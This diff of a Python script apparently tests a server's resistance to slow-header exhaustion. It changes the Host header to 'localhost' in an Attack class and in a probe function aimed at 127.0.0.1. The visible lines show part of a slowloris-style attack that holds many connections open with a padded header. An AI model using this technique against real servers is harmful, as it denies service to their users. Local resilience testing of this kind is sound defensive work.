@@ -60,7 +60,7 @@ class Attack:
         sel = selectors.DefaultSelector()
         for _ in range(self.n):
             self.open(sel)
-        head = b"GET /1k.bin HTTP/1.1\r\nHost: x\r\nX-a: " + b"a" * 4000
+        head = b"GET /1k.bin HTTP/1.1\r\nHost: localhost\r\nX-a: " + b"a" * 4000
         next_drip = time.time() + 5
         while not self.stop.is_set():
             for key, _ in sel.select(timeout=0.2):
@@ -98,7 +98,7 @@ def probe(port, seconds):
         try:
             with socket.create_connection(("127.0.0.1", port), timeout=5) as c:
                 c.settimeout(5)
-                c.sendall(b"GET /1k.bin HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
+                c.sendall(b"GET /1k.bin HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                 got = b""
                 while True:
                     d = c.recv(65536)
